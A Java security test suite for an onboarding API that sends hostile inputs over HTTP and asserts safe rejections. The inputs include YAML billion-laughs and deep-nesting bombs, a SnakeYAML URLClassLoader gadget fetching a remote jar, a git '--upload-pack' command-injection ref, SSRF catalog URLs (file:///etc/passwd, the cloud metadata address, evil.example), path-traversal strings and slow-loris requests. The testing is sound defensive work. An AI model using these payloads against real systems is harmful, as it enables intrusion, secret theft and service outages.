package com.company.onboarding.api;

import static io.restassured.RestAssured.given;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.anyOf;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.lessThan;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.notNullValue;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import com.company.onboarding.testing.LogCapture;
import com.company.onboarding.testing.RawHttp;
import com.company.onboarding.validation.Entries;
import com.company.onboarding.validation.EntrySchema;
import com.company.onboarding.validation.Shape;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * Hostile input through real HTTP (docs/spec.md#reliability-and-security): every case is a 4xx problem, or a 200 validation
 * report where the body is readable and the entry is what is wrong; none is a 5xx, none shows a
 * stack trace or a Java type, nothing leaves the data directory or the configured catalog, and
 * afterwards the service still answers. Each case is one dynamic test, named after its attack.
 */
@QuarkusTest
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTest {

    private static final int MIB = 1024 * 1024;
    private static LogCapture logs;
    private static ServerSocket elsewhere;
    private static final AtomicInteger connectionsElsewhere = new AtomicInteger();

    @BeforeAll
    static void listenElsewhere() throws IOException {
        logs = new LogCapture();
        // A host a hostile entry may name: any connection the service made to it would be counted here.
        elsewhere = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread accept = new Thread(() -> {
            while (!elsewhere.isClosed()) {
                try (Socket socket = elsewhere.accept()) {
                    connectionsElsewhere.incrementAndGet();
                } catch (IOException e) {
                    return;
                }
            }
        }, "elsewhere");
        accept.setDaemon(true);
        accept.start();
    }

    @AfterAll
    static void stop() throws IOException {
        elsewhere.close();
        logs.close();
    }

    // ---- bodies ------------------------------------------------------------------------------

    @TestFactory
    @Order(1)
    Stream<DynamicTest> bodiesThatAreNotEntries() {
        String laughs = "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
                + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
                + "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n";
        byte[] thirtyMib = new byte[30 * MIB];
        Arrays.fill(thirtyMib, (byte) ' ');
        thirtyMib[0] = '{';
        thirtyMib[thirtyMib.length - 1] = '}';
        return Stream.of(
                malformed("billion laughs (YAML anchors and aliases)", yaml(laughs)),
                malformed("20,000-deep JSON", json("[".repeat(20_000) + "]".repeat(20_000))),
                malformed("20,000-deep YAML (flow)", yaml("a: " + "[".repeat(20_000) + "]".repeat(20_000))),
                malformed("20,000-deep YAML (block)", yaml(deepBlockYaml(20_000))),
                malformed("duplicate key in JSON, with its pointer", json("{\"name\": \"a\", \"cost\": {\"costOwner\": \"x\","
                        + " \"costOwner\": \"y\"}}"), "/cost/costOwner"),
                malformed("duplicate key in YAML, with its pointer", yaml("name: a\ncost:\n  costOwner: x\n  costOwner: y\n"),
                        "/cost/costOwner"),
                malformed("Java type tag !!java.net.URL", yaml("name: !!java.net.URL [\"http://169.254.169.254/\"]\n")),
                malformed("Java type tag !!javax.script.ScriptEngineManager", yaml("name: !!javax.script.ScriptEngineManager"
                        + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1/x.jar\"]]]]\n")),
                malformed("invalid UTF-8 in JSON", json(new byte[] {'{', '"', 'n', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'})),
                malformed("invalid UTF-8 in YAML", yaml(new byte[] {'n', ':', ' ', (byte) 0xFF, (byte) 0xFE})),
                malformed("UTF-16 is not UTF-8", json("{\"name\": \"a\"}".getBytes(StandardCharsets.UTF_16))),
                malformed("NaN in JSON", json("{\"monitoring\": {\"overrides\": {\"prod\": {\"sloAvailability\": NaN}}}}")),
                malformed("Infinity in JSON", json("{\"monitoring\": {\"overrides\": {\"prod\": {\"sloAvailability\": -Infinity}}}}")),
                malformed("a huge number: 1e999999", json("{\"monitoring\": {\"overrides\": {\"prod\": {\"sloAvailability\": 1e999999}}}}")),
                malformed("a huge number in YAML: -1e999999999", yaml("monitoring: {overrides: {prod: {sloLatencyP95ms: -1e999999999}}}")),
                malformed("a number of 500 digits", json("{\"size\": " + "9".repeat(500) + "}")),
                malformed("a string of 100,000 characters", json("{\"name\": \"" + "a".repeat(100_000) + "\"}")),
                malformed("an empty body", json("")),
                malformed("two JSON documents", json("{\"name\": \"a\"} {\"name\": \"b\"}")),
                malformed("two YAML documents", yaml("name: a\n---\nname: b\n")),
                report("a null body", json("null"), "", "entry.malformed"),
                report("a JSON array body", json("[{\"name\": \"a\"}]"), "", "entry.malformed"),
                report("a body that is a string", json("\"payment-processor\""), "", "entry.malformed"),
                report("a body that is a YAML string", yaml("just a string\n"), "", "entry.malformed"),
                problem("a 30 MiB body with Content-Length", 413, "request.too-large",
                        () -> given().contentType("application/json").body(thirtyMib).post("/services/validate")),
                rawProblem("a 30 MiB body sent chunked", 413, "request.too-large", () -> RawHttp.exchange(
                        "POST /services/validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                                + "Transfer-Encoding: chunked", RawHttp.chunked(thirtyMib, 64 * 1024))),
                rawProblem("a 30 MiB body announced with Expect: 100-continue, never sent", 413, "request.too-large",
                        () -> RawHttp.exchange("POST /services/preview HTTP/1.1\r\nHost: localhost\r\n"
                                + "Content-Type: application/json\r\nContent-Length: " + 30 * MIB + "\r\nExpect: 100-continue",
                                new byte[0])),
                rawProblem("a body longer than it declares, chunked past the limit into a management path", 413,
                        "request.too-large", () -> RawHttp.exchange("POST /q/health HTTP/1.1\r\nHost: localhost\r\n"
                                + "Transfer-Encoding: chunked", RawHttp.chunked(new byte[2 * MIB], 100_000))),
                rawProblem("a body that stops half-way (slow loris)", 408, "request.timeout", () -> RawHttp.exchange(
                        "POST /services/validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                                + "Content-Length: 1000", "{\"name\": ".getBytes(StandardCharsets.UTF_8))),
                problem("a charset nobody knows", 415, "request.unsupported-media-type",
                        () -> given().contentType("application/json; charset=x-klingon").body("{}".getBytes(StandardCharsets.UTF_8))
                                .post("/services/validate")),
                report("a UTF-16 body labelled as such is read as such", new Body("application/json; charset=UTF-16",
                        "{\"name\": \"Caf\u00e9\"}".getBytes(StandardCharsets.UTF_16)), "/name", "service.name.invalid"),
                problem("a form instead of an entry", 415, "request.unsupported-media-type",
                        () -> given().contentType("application/x-www-form-urlencoded").body("name=x").post("/services/preview")),
                problem("an Accept the service cannot answer", 406, "request.not-acceptable",
                        () -> given().contentType("application/json").accept("text/html").body("{}").post("/services/preview")),
                DynamicTest.dynamicTest("a 10,000-item metrics list is reported on, not a hang", () -> {
                    byte[] entry = tenThousandMetrics();
                    Response validated = given().contentType("application/json").body(entry).post("/services/validate");
                    sane(validated);
                    assertEquals(200, validated.statusCode());
                    Response previewed = given().contentType("application/json").body(entry).post("/services/preview");
                    sane(previewed);
                    assertThat(previewed.statusCode(), anyOf(equalTo(200), equalTo(422)));
                }),
                DynamicTest.dynamicTest("the same 10,000 metrics sent chunked in small pieces", () -> {
                    RawHttp.Answer answer = RawHttp.exchange("POST /services/validate HTTP/1.1\r\nHost: localhost\r\n"
                            + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close",
                            RawHttp.chunked(tenThousandMetrics(), 1000));
                    assertEquals(200, answer.status(), answer.body());
                    assertThat(answer.body(), containsString("\"valid\""));
                }));
    }

    // ---- wrong types, generated from the entry's shape ---------------------------------------

    @TestFactory
    @Order(2)
    Stream<DynamicTest> aWrongTypeInEveryFieldOfTheEntry() {
        List<DynamicTest> tests = new ArrayList<>();
        forEachField(EntrySchema.ENTRY, "", (pointer, shape) -> tests.add(DynamicTest.dynamicTest(
                pointer + " as " + describe(wrongValue(shape)), () -> {
                    ObjectNode entry = Entries.paymentProcessor();
                    setCreatingParents(entry, pointer, wrongValue(shape));
                    Response response = given().contentType("application/json").body(entry.toString()).post("/services/validate");
                    sane(response);
                    response.then().statusCode(200)
                            .body("valid", equalTo(false))
                            .body("errors.findAll { it.code == 'entry.malformed' }.pointer", hasItem(pointer));
                })));
        forEachField(EntrySchema.ONBOARDING_REQUEST, "", (pointer, shape) -> {
            if (pointer.chars().filter(c -> c == '/').count() == 1) { // the envelope's own fields
                tests.add(DynamicTest.dynamicTest("POST /services " + pointer + " as " + describe(wrongValue(shape)), () -> {
                    ObjectNode body = JsonNodeFactory.instance.objectNode();
                    body.set("entry", Entries.paymentProcessor(e -> Entries.set(e, "/name", "wrong-type-check")));
                    body.set(pointer.substring(1), wrongValue(shape));
                    Response response = given().contentType("application/json").body(body.toString()).post("/services");
                    sane(response);
                    response.then().statusCode(422)
                            .contentType(Problem.MEDIA_TYPE)
                            // findings about the entry point into the entry, so a wrong entry is at its root
                            .body("errors.pointer", hasItem(pointer.equals("/entry") ? "" : pointer));
                }));
            }
        });
        assertThat("every field of the entry has its case", tests.size(), org.hamcrest.Matchers.greaterThan(40));
        return tests.stream();
    }

    // ---- refs ----------------------------------------------------------------------------------

    @TestFactory
    @Order(3)
    Stream<DynamicTest> refsThatTryToBeSomethingElse() {
        Path marker = Path.of("target", "test-data", "upload-pack-ran-" + System.nanoTime()).toAbsolutePath();
        List<String> refs = List.of("--upload-pack=touch " + marker, "-x", "refs/../../x", "a..b", "v1.2.0/../../etc",
                "x".repeat(201), "v1\u0001", "v1\nrefs/heads/main", "v1.2.0\u0000", "/etc/passwd", "HEAD@{1}", "main.lock");
        List<DynamicTest> tests = new ArrayList<>();
        for (String ref : refs) {
            String printable = ref.replace("\n", "\\n").replace("\u0000", "\\0").replace("\u0001", "\\1");
            tests.add(DynamicTest.dynamicTest("ref in the URL: " + abbreviate(printable), () -> {
                Response response = given().urlEncodingEnabled(false).get("/metrics-catalog/refs/" + encode(ref));
                sane(response);
                // A ref that holds a '/' may be normalised to a path that routes nowhere: 404, never further.
                assertThat(response.statusCode(), anyOf(equalTo(400), equalTo(404)));
                response.then().contentType(Problem.MEDIA_TYPE);
                assertFalse(Files.exists(marker), "git ran --upload-pack");
            }));
            tests.add(DynamicTest.dynamicTest("ref in an entry: " + abbreviate(printable), () -> {
                ObjectNode entry = Entries.paymentProcessor();
                ((ObjectNode) entry.at("/monitoring/customMetrics/repository")).put("ref", ref);
                Response response = given().contentType("application/json").body(entry.toString()).post("/services/validate");
                sane(response);
                response.then().statusCode(200)
                        .body("errors.find { it.pointer == '/monitoring/customMetrics/repository/ref' }.code",
                                equalTo("catalog.ref.invalid"));
                assertFalse(Files.exists(marker), "git ran --upload-pack");
            }));
        }
        return tests.stream();
    }

    // ---- catalog URLs ---------------------------------------------------------------------------

    @TestFactory
    @Order(4)
    Stream<DynamicTest> catalogUrlsOfTheRequestersChoosing() {
        String local = "http://127.0.0.1:" + elsewhere.getLocalPort() + "/company/metrics-catalog.git";
        return Stream.of("file:///etc", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
                        "ssh://git@github.com/company/metrics-catalog.git", "git@github.com:company/metrics-catalog.git",
                        "https://github.com/company/metrics-catalog/../../evil/catalog", "https://github.com@evil.example/company/metrics-catalog",
                        "https://evil.example/company/metrics-catalog", local)
                .map(url -> DynamicTest.dynamicTest("catalog URL " + url, () -> {
                    ObjectNode entry = Entries.paymentProcessor();
                    ((ObjectNode) entry.at("/monitoring/customMetrics/repository")).put("url", url);
                    for (String endpoint : new String[] {"/services/validate", "/services/preview"}) {
                        Response response = given().contentType("application/json").body(entry.toString()).post(endpoint);
                        sane(response);
                        response.then()
                                .body("errors.find { it.pointer == '/monitoring/customMetrics/repository/url' }.code",
                                        equalTo("catalog.url.not-allowed"));
                    }
                    assertEquals(0, connectionsElsewhere.get(), "the service connected to a host an entry named");
                }));
    }

    // ---- names and paths ---------------------------------------------------------------------

    @TestFactory
    @Order(5)
    Stream<DynamicTest> traversalInNamesAndPathParameters() {
        List<DynamicTest> tests = new ArrayList<>();
        tests.add(report("../ in the service name", json(Entries.paymentProcessor(
                e -> Entries.set(e, "/name", "\"../services/payment-processor\"")).toString()), "/name", "service.name.invalid"));
        tests.add(report("../ in the monitoring profile", json(Entries.paymentProcessor(
                e -> Entries.set(e, "/monitoringProfile", "\"../../kustomize/catalog/services\"")).toString()),
                "/monitoringProfile", "profile.unknown"));
        for (String profile : new String[] {"../services/payment-processor", "/etc", "payment-business-metrics/../../services/payment-processor"}) {
            tests.add(DynamicTest.dynamicTest("catalog profile " + profile + " reads nothing", () -> {
                ObjectNode entry = Entries.paymentProcessor(e -> {
                    Entries.set(e, "/name", "traversal-check");
                    Entries.set(e, "/monitoring/customMetrics/profiles", "[\"" + profile + "\"]");
                    Entries.remove(e, "/monitoring/overrides");
                });
                Response response = given().contentType("application/json").body(entry.toString()).post("/services/validate");
                sane(response);
                response.then().statusCode(200)
                        .body("errors.find { it.pointer == '/monitoring/customMetrics/profiles/0' }.code",
                                equalTo("catalog.profile.not-found"))
                        // nothing of services/payment-processor (a real directory two levels up) was read
                        .body(not(containsString("services/payment-processor/")));
            }));
        }
        String[] traversals = {"..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%2e%2e%2f%2e%2e%2fetc", "%252e%252e%252fetc",
                "a%00b", "..%00", "%2F%2Fetc", "..%5c..%5cwindows", "%c0%ae%c0%ae", "..;x=1"};
        for (String template : new String[] {"/profiles/%s", "/services/%s", "/services/%s/preview", "/metrics-catalog/refs/%s"}) {
            for (String traversal : traversals) {
                String path = template.formatted(traversal);
                tests.add(problem("GET " + path, 0, null, () -> given().urlEncodingEnabled(false).get(path)));
            }
        }
        return tests.stream();
    }

    // ---- what YAML 1.1 and 1.2 read differently -------------------------------------------------

    /**
     * NEL, LS and PS: line breaks to YAML 1.1 (which read NEL as a space, PS as the end of the value,
     * LS as a syntax error), text to JSON and YAML 1.2. As written in YAML they are refused at their
     * pointer; in JSON, or escaped in YAML, every reader agrees, and both give the same entry. A
     * null list item passed through to Dynatrace used to vanish from the entry; now it is reported.
     */
    @TestFactory
    @Order(6)
    Stream<DynamicTest> charactersYamlVersionsReadDifferentlyAndNullItems() {
        String rule = "/monitoring/overrides/prod/dynatrace/alertRules/0";
        List<DynamicTest> tests = new ArrayList<>();
        for (char c : new char[] {0x85, 0x2028, 0x2029}) {
            String name = String.format("U+%04X", (int) c);
            ObjectNode entry = Entries.paymentProcessor(e -> ((ObjectNode) e.at(rule)).put("description", "page" + c + "someone"));
            String raw = Entries.paymentProcessorYaml().replace("severity: critical",
                    "severity: critical\n            description: page" + c + "someone");
            String escaped = Entries.paymentProcessorYaml().replace("severity: critical",
                    "severity: critical\n            description: \"page\\u" + String.format("%04X", (int) c) + "someone\"");
            tests.add(malformedAt(name + " as written in YAML is refused at its pointer", yaml(raw), rule + "/description"));
            tests.add(DynamicTest.dynamicTest(name + " in JSON and escaped in YAML give the same entry", () -> {
                Body asJson = new Body("application/json", entry.toString().getBytes(StandardCharsets.UTF_8));
                for (String endpoint : new String[] {"/services/validate", "/services/preview"}) {
                    Response fromJson = post(endpoint, asJson);
                    Response fromYaml = post(endpoint, yaml(escaped));
                    sane(fromJson);
                    fromJson.then().statusCode(200);
                    assertEquals(fromJson.asString(), fromYaml.asString(), endpoint);
                }
                assertEquals("page" + c + "someone", post("/services/preview", asJson).jsonPath().getString(
                        "targets.find { it.target.environment == 'prod' }.application.alertRules"
                                + ".find { it.name == 'PaymentSuccessRateLow' }.description"));
            }));
        }
        ObjectNode withNull = Entries.paymentProcessor(e -> ((ObjectNode) e.at(rule)).putArray("runbooks").addNull().add("https://wiki/x"));
        tests.add(report("a null item in a list passed through (JSON)", json(withNull.toString()), rule + "/runbooks/0",
                "entry.malformed"));
        tests.add(report("a null item in a list passed through (YAML)", yaml(Entries.paymentProcessorYaml().replace(
                "severity: critical", "severity: critical\n            runbooks: [~, https://wiki/x]")), rule + "/runbooks/0",
                "entry.malformed"));
        return tests.stream();
    }

    @Test
    @Order(100)
    void afterAllOfThatTheServiceStillAnswersAndNothingFailedInside() {
        given().when().get("/profiles").then().statusCode(200);
        given().when().get("/q/health/ready").then().statusCode(200);
        assertEquals(0, connectionsElsewhere.get());
        assertThat(logs.text(), not(containsString("unexpected failure")));
        assertThat(logs.text().lines().filter(line -> line.startsWith("ERROR")).toList(), org.hamcrest.Matchers.empty());
    }

    // ---- helpers -----------------------------------------------------------------------------

    private record Body(String contentType, byte[] bytes) {
    }

    private static Body json(String text) {
        return new Body("application/json", text.getBytes(StandardCharsets.UTF_8));
    }

    private static Body json(byte[] bytes) {
        return new Body("application/json", bytes);
    }

    /** RestAssured would label YAML ISO-8859-1 by default; a client sending UTF-8 says so. */
    private static Body yaml(String text) {
        return new Body("application/yaml; charset=UTF-8", text.getBytes(StandardCharsets.UTF_8));
    }

    private static Body yaml(byte[] bytes) {
        return new Body("application/yaml; charset=UTF-8", bytes);
    }

    private static Response post(String path, Body body) {
        RequestSpecification request = given().contentType(body.contentType()).body(body.bytes());
        return request.post(path);
    }

    /** Refused as unreadable on both endpoints that read an entry: 400 entry.malformed. */
    private static DynamicTest malformed(String name, Body body) {
        return malformed(name, body, null);
    }

    private static DynamicTest malformed(String name, Body body, String pointer) {
        return DynamicTest.dynamicTest(name, () -> {
            for (String endpoint : new String[] {"/services/validate", "/services/preview"}) {
                Response response = post(endpoint, body);
                checkProblem(response, 400, "entry.malformed");
                if (pointer != null) {
                    response.then().body("pointer", equalTo(pointer)).body("line", notNullValue());
                }
            }
        });
    }

    /** Refused as unreadable on both endpoints, at {@code pointer} (JSON has no line to name). */
    private static DynamicTest malformedAt(String name, Body body, String pointer) {
        return DynamicTest.dynamicTest(name, () -> {
            for (String endpoint : new String[] {"/services/validate", "/services/preview"}) {
                Response response = post(endpoint, body);
                checkProblem(response, 400, "entry.malformed");
                response.then().body("pointer", equalTo(pointer));
            }
        });
    }

    /** Readable but not an entry: validation reports it (200), preview refuses it (422). */
    private static DynamicTest report(String name, Body body, String pointer, String code) {
        return DynamicTest.dynamicTest(name, () -> {
            Response validated = post("/services/validate", body);
            sane(validated);
            validated.then().statusCode(200)
                    .body("valid", equalTo(false))
                    .body("errors.findAll { it.pointer == '" + pointer + "' }.code", hasItem(code));
            Response previewed = post("/services/preview", body);
            checkProblem(previewed, 422, "entry.invalid");
        });
    }

    /** A problem of {@code status} and {@code code}; status 0 means any 400 or 404. */
    private static DynamicTest problem(String name, int status, String code, Supplier<Response> request) {
        return DynamicTest.dynamicTest(name, () -> {
            Response response = request.get();
            if (status == 0) {
                sane(response);
                assertThat(name, response.statusCode(), anyOf(equalTo(400), equalTo(404)));
                response.then().contentType(Problem.MEDIA_TYPE);
            } else {
                checkProblem(response, status, code);
            }
        });
    }

    private static DynamicTest rawProblem(String name, int status, String code, Supplier<RawHttp.Answer> request) {
        return DynamicTest.dynamicTest(name, () -> {
            RawHttp.Answer answer = request.get();
            assertEquals(status, answer.status(), answer.body());
            assertEquals(Problem.MEDIA_TYPE + ";charset=UTF-8", answer.header("content-type"));
            assertThat(answer.body(), containsString("\"code\":\"" + code + "\""));
            assertThat(answer.body(), not(containsString("Exception")));
        });
    }

    private static void checkProblem(Response response, int status, String code) {
        sane(response);
        response.then().statusCode(status)
                .contentType(Problem.MEDIA_TYPE)
                .body("status", equalTo(status))
                .body("code", equalTo(code));
    }

    /** What no answer may be: a server error, a stack trace, a Java type name. */
    private static void sane(Response response) {
        String body = response.asString();
        assertThat(body, response.statusCode(), lessThan(500));
        assertThat(body, not(containsString("at com.")));
        assertThat(body, not(containsString("Exception")));
        assertThat(body, not(containsString("com.fasterxml")));
        assertThat(body, not(containsString("java.")));
    }

    private static String deepBlockYaml(int depth) {
        // One space of indentation per level: the deepest nesting a block document can have per byte.
        StringBuilder yaml = new StringBuilder();
        for (int level = 0; level < depth; level++) {
            yaml.append(" ".repeat(level)).append("a:\n");
            if (yaml.length() > 900_000) {
                break; // under the body limit: the depth check, not the size check, must refuse it
            }
        }
        return yaml.toString();
    }

    private static byte[] tenThousandMetrics() {
        ObjectNode entry = Entries.paymentProcessor(e -> Entries.set(e, "/name", "ten-thousand-metrics"));
        ArrayNode metrics = ((ObjectNode) entry.at("/monitoring/customMetrics")).putArray("metrics");
        for (int i = 0; i < 10_000; i++) {
            metrics.addObject().put("name", "m" + i).put("type", "counter");
        }
        return entry.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** Every field of {@code shape} (nested objects, list items, map values), with its pointer. */
    private static void forEachField(Shape shape, String pointer, java.util.function.BiConsumer<String, Shape> each) {
        if (!pointer.isEmpty()) {
            each.accept(pointer, shape);
        }
        if (shape instanceof Shape.Obj obj) {
            obj.fields().values().forEach(f -> forEachField(f.shape(), pointer + "/" + f.name(), each));
        } else if (shape instanceof Shape.ListOf list) {
            forEachField(list.item(), pointer + "/0", each);
        } else if (shape instanceof Shape.MapOf map) {
            forEachField(map.value(), pointer + "/" + (map.value() instanceof Shape.Obj ? "prod" : "teams"), each);
        }
    }

    /** A value of another type than {@code shape} wants. */
    private static JsonNode wrongValue(Shape shape) {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        if (shape instanceof Shape.Text) {
            return nodes.numberNode(42);
        }
        if (shape instanceof Shape.Bool) {
            return nodes.textNode("yes");
        }
        if (shape instanceof Shape.Num) {
            return nodes.textNode("fast");
        }
        if (shape instanceof Shape.ListOf) {
            return nodes.textNode("one, two");
        }
        return nodes.arrayNode().add("a list, not a mapping");
    }

    private static String describe(JsonNode value) {
        return value.isNumber() ? "a number" : value.isArray() ? "a list" : "a string";
    }

    /** Sets the node at {@code pointer}, creating missing objects and list items on the way. */
    private static void setCreatingParents(ObjectNode root, String pointer, JsonNode value) {
        String[] segments = pointer.substring(1).split("/");
        JsonNode node = root;
        for (int i = 0; i < segments.length; i++) {
            boolean last = i == segments.length - 1;
            boolean nextIsIndex = !last && segments[i + 1].matches("\\d+");
            JsonNode child = node.isArray() ? node.path(Integer.parseInt(segments[i])) : node.path(segments[i]);
            if (last) {
                if (node.isArray()) {
                    ArrayNode array = (ArrayNode) node;
                    if (array.size() > 0) {
                        array.set(0, value);
                    } else {
                        array.add(value);
                    }
                } else {
                    ((ObjectNode) node).set(segments[i], value);
                }
                return;
            }
            if (child.isMissingNode() || child.isNull() || (nextIsIndex ? !child.isArray() : !child.isObject())) {
                JsonNode created = nextIsIndex ? JsonNodeFactory.instance.arrayNode() : JsonNodeFactory.instance.objectNode();
                if (node.isArray()) {
                    ((ArrayNode) node).add(created);
                } else {
                    ((ObjectNode) node).set(segments[i], created);
                }
                child = created;
            }
            if (child.isArray() && nextIsIndex && child.size() == 0) {
                ((ArrayNode) child).addObject();
            }
            node = child;
        }
    }

    private static String encode(String ref) {
        // Keep '/' as a path separator, as a client building the URL from a ref would.
        return URLEncoder.encode(ref, StandardCharsets.UTF_8).replace("+", "%20").replace("%2F", "/");
    }

    private static String abbreviate(String text) {
        return text.length() > 60 ? text.substring(0, 57) + "..." : text;
    }
}
